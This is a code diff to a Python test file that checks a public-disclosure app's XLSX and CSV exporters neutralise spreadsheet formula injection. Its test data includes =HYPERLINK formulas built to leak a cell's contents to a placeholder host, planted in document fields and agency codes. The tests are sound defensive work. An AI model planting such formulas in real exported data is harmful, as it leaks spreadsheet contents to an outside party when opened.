@@ -14,6 +14,7 @@ from gongkai import spreadsheet_cells
 from gongkai.spreadsheet_cells import TRIGGERS, csv_value, neutralise, restore
 
 PLANT = '=HYPERLINK("http://example.invalid/?leak="&B3,"点击")'
+SHORT = '=HYPERLINK("http://x.invalid/",B3)'
 _ILLEGAL = {chr(c) for c in (*range(0, 9), 11, 12, *range(14, 32))}
 
 
@@ -83,7 +84,7 @@ def test_numbers_dates_and_booleans_stay_what_they_are():
 # ------------------------------------------------------------------------------------------------ exporters
 
 
-def test_auditor_result_xlsx(tmp_path):
+def test_checkup_result_xlsx(tmp_path):
     """年报体检 result.xlsx (also `gongkai checkup --out x.xlsx`): file names and everything read from a report."""
     from report_checkup.output import write_xlsx
 
@@ -145,23 +146,23 @@ def test_catalogue_export_xlsx_and_csv(region, settings, tmp_path):
     from catalog.tests.test_transfer import EDU_2018, catalogue_rows, imported, to_csv
     from orgs.models import Agency
 
-    settings.MEDIA_ROOT = tmp_path
+    settings.MEDIA_ROOT = tmp_path  # SHORT: the agency code and 不予公开理由 columns hold 40 characters
     imported(to_csv(catalogue_rows()))
     target = Document.objects.get(index_number=EDU_2018)
-    Attachment.objects.create(document=target, file="x.pdf", original_name=PLANT, content_type="application/pdf",
+    Attachment.objects.create(document=target, file="x.pdf", original_name=SHORT, content_type="application/pdf",
                               size=1)
     planted = ("index_number", "title", "document_number", "summary", "keywords", "withholding_ground",
                "legal_basis", "body")
-    Document.objects.filter(pk=target.pk).update(**dict.fromkeys(planted, PLANT))
-    Agency.objects.filter(code="edu").update(code=PLANT)
+    Document.objects.filter(pk=target.pk).update(**dict.fromkeys(planted, SHORT))
+    Agency.objects.filter(code="edu").update(code=SHORT)
     data = export_catalogue(Document.objects.all(), "xlsx")
     assert assert_no_formula(data)
     cells = [c for row in _reopen(data)["目录"].iter_rows(values_only=True) for c in row]
     # the 8 planted fields, the publisher's code on 3 rows, 解读 and 替代 pointing at the target, the attachment
-    assert cells.count("'" + PLANT) >= len(planted) + 3 + 2 + 1 and PLANT not in cells
+    assert cells.count("'" + SHORT) >= len(planted) + 3 + 2 + 1 and SHORT not in cells
     fields = [f for row in csv.reader(io.StringIO(export_catalogue(Document.objects.all(), "csv").decode("utf-8-sig")))
               for f in row]
-    assert fields.count("'" + PLANT) == cells.count("'" + PLANT) and not any(f.startswith("=") for f in fields)
+    assert fields.count("'" + SHORT) == cells.count("'" + SHORT) and not any(f.startswith("=") for f in fields)
 
 
 WRITERS = {"gongkai/tables.py", "reports/rendering/xlsx.py", "report_checkup/output.py", "monitoring/reporting.py"}
